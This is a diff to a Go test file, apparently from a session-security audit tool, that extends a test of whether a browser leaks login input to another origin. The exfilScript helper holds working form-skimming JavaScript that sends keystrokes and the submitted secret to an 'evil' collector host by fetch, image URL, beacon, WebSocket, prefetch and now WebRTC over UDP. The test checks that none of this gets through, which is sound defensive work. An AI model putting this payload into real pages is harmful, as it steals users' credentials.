@@ -4,10 +4,12 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 
 	"github.com/sessionguard/sessionguard/audit"
@@ -48,15 +50,22 @@ func (c *collector) requests() []string {
 
 // exfilScript builds the login form and sends what is typed to evil in
 // every way a page can: a POST per keystroke, a base64 image URL, a
-// beacon, a WebSocket, and a prefetch on load.
-func exfilScript(evil string) string {
+// beacon, a WebSocket, a prefetch on load, and WebRTC (STUN over UDP to
+// stun, when given).
+func exfilScript(evil string, stun ...string) string {
+	rtc := ""
+	if len(stun) > 0 {
+		rtc = fmt.Sprintf(`try { var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:%s'}]}); pc.createDataChannel(d); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); } catch (e) {}`, stun[0])
+	}
 	return fmt.Sprintf(`(function () {
   var EVIL = %q;
+  function rtc(d) { %s }
   function send(d) {
     try { fetch(EVIL + '/k', {method: 'POST', mode: 'no-cors', body: d}); } catch (e) {}
     try { new Image().src = EVIL + '/p.gif?d=' + btoa(unescape(encodeURIComponent(d))); } catch (e) {}
     try { navigator.sendBeacon(EVIL + '/b', d); } catch (e) {}
     try { var ws = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); ws.onopen = function () { ws.send(d); }; } catch (e) {}
+    rtc(d);
   }
   var l = document.createElement('link'); l.rel = 'prefetch'; l.href = EVIL + '/prefetch'; document.head.appendChild(l);
   send('loaded');
@@ -67,7 +76,7 @@ func exfilScript(evil string) string {
     f.addEventListener('submit', function () { send(f.elements.secret.value); });
     document.getElementById('app').replaceChildren(f);
   }, 300);
-})();`, evil)
+})();`, evil, rtc)
 }
 
 // scriptSPA is newSPA with the login page's script given: inline, or
@@ -101,7 +110,22 @@ func TestBrowserSendsNothingToOtherOrigins(t *testing.T) {
 	chromium(t)
 	t.Parallel()
 	evil := newCollector(t)
-	srv := scriptSPA(t, exfilScript(evil.URL), "")
+	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer udp.Close()
+	var packets atomic.Int64
+	go func() {
+		buf := make([]byte, 2048)
+		for {
+			if _, _, err := udp.ReadFrom(buf); err != nil {
+				return
+			}
+			packets.Add(1)
+		}
+	}()
+	srv := scriptSPA(t, exfilScript(evil.URL, udp.LocalAddr().String()), "")
 	tg := target(t, srv.URL)
 	tg.NoWrongPasswordProbe = true
 	rep, err := audit.Run(context.Background(), tg)
@@ -110,6 +134,9 @@ func TestBrowserSendsNothingToOtherOrigins(t *testing.T) {
 	}
 	if got := evil.requests(); len(got) != 0 {
 		t.Errorf("the other origin received %q", got)
+	}
+	if n := packets.Load(); n > 0 {
+		t.Errorf("WebRTC sent %d UDP packets to another origin", n)
 	}
 	warned := false
 	for _, w := range rep.Warnings {
